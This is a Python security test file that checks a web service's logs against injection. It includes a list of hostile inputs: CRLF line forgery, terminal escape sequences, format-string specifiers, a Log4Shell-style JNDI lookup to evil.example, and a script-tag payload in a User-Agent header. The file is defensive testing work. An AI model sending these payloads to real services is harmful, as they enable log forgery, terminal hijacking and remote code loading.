"""Texts that would forge lines of the log or command a terminal, and secrets that must not get there."""

import json

from tests.factories import Api
from tests.security.conftest import CANARY, Server
from tests.security.wire import Wire, request

FORGED = '{"event": "forged", "level": "info"}'
HOSTILE = [
    f"x\r\n{FORGED}",
    f"x\n{FORGED}",
    f"x\x0b{FORGED}",
    f"x\u2028{FORGED}",
    f"x\x85{FORGED}",
    "\x1b[2J\x1b[31mred\x07",
    "\x1b]0;title\x07",
    "\x9b31m",
    "x\0y",
    '","level":"error","x":"',
    "%s%n%x{0}{event}",
    "${jndi:ldap://evil.example/a}",
    "\u202etxet",
]


def check(written: str) -> None:
    """Every line is a whole event of the service's own, and holds no character that a terminal obeys."""
    for line in written.splitlines():
        event = json.loads(line)
        assert event["event"] != "forged"
        assert line.isprintable()
        assert "evil.example" not in line


async def test_no_field_of_a_body_forges_a_line(server: Server, ana: Api, api: Api) -> None:
    before = server.log_size
    for text in HOSTILE:
        await ana.post("/tasks", {"title": text, "description": text, text: text})
        await ana.post("/tags", {"name": text})
        await ana.post("/tasks/quick", {"text": text})
        await ana.patch("/users/me", {"first_name": text, "timezone": text})
        await api.post("/auth/login", {"email": text, "password": text})
        await api.post("/auth/forgot-password", {"email": text})
    check(server.logged_since(before))


async def test_no_part_of_a_request_does(server: Server) -> None:
    before = server.log_size
    for text in HOSTILE:
        raw = text.encode()
        for message in (
            b"GET /api/v1/tasks HTTP/1.1\r\nHost: x\r\nUser-Agent: " + raw + b"\r\n\r\n",
            b"GET /api/v1/tasks HTTP/1.1\r\nHost: x\r\nX-Request-ID: " + raw + b"\r\n\r\n",
            b"GET /api/v1/tasks HTTP/1.1\r\nHost: " + raw + b"\r\n\r\n",
            b"GET /api/v1/" + raw + b" HTTP/1.1\r\nHost: x\r\n\r\n",
            raw + b" / HTTP/1.1\r\nHost: x\r\n\r\n",
        ):
            async with Wire.to(server.url) as wire:
                await wire.send(message)
                await wire.answer()
    check(server.logged_since(before))


async def test_a_device_is_shown_without_what_commands_a_terminal(server: Server, ana: Api) -> None:
    login = json.dumps({"email": ana.email, "password": "correct horse battery"}).encode()
    head = request(
        "POST",
        "/api/v1/auth/login",
        "Content-Type: application/json",
        f"Content-Length: {len(login)}",
        "X-Forwarded-For: 10.9.8.7",
        "User-Agent: Device\t<script>alert(1)</script>\x9b31m",
    )
    async with Wire.to(server.url) as wire:
        await wire.send(head, login)
        answer = await wire.answer()
    assert answer is not None
    assert answer.status == 200
    devices = [session["device"] for session in (await ana.get("/auth/sessions")).json()["items"]]
    assert all(device.isprintable() for device in devices)


async def test_no_secret_gets_there(server: Server, ana: Api) -> None:
    """Not from a body, a header, a query or a path; not from a request that is refused or malformed."""
    before = server.log_size
    secret = f"{CANARY} horse battery"
    await ana.post("/auth/login", {"email": ana.email, "password": secret})
    await ana.post("/auth/register", {"email": f"{CANARY}@example.com", "password": secret})
    await ana.post("/auth/reset-password", {"token": CANARY, "new_password": secret})
    await ana.request("POST", "/auth/token", data={"username": CANARY, "password": secret})
    await ana.post("/auth/refresh", headers={"Cookie": f"refresh_token={CANARY}"})
    await ana.get(f"/tasks?q={CANARY}&cursor={CANARY}&{CANARY}=1")
    await ana.get(f"/tasks/{CANARY}")
    await ana.get(f"/{CANARY}")
    await ana.post("/tasks", {"title": CANARY, CANARY: CANARY})
    await ana.get("/tasks", headers={"Authorization": f"Bearer {CANARY}", "X-Request-ID": f"{CANARY} not sane"})
    await ana.request(f"{CANARY}", "/tasks")
    written = server.logged_since(before)
    assert CANARY.lower() not in written.lower()
    assert written.count('"event": "request"') >= 10
    for token in (ana.client.headers["Authorization"].split(".")[2], ana.client.cookies["refresh_token"]):
        assert token not in written
